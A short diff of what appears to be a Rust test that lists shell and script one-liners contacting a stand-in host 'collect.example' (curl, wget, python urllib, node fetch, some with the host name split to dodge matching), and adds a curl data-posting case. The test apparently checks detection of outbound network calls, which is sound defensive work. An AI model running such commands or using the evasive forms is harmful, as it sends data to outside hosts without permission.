@@ -176,6 +176,7 @@ fn the_hosts_commands_contact_are_judged_unless_the_egress_proxy_asks() {
         "curl -s https://collect.example/x",
         "wget -q -O- collect.example/x",
         "curl -o out.json collect.example/x",
+        "curl -dx.y collect.example/x",
         "python3 -c 'import urllib.request as u; u.urlopen(\"http://collect\" + \".example\")'",
         "node -e 'fetch(`https://${\"collect.example\"}/`)'",
     ] {
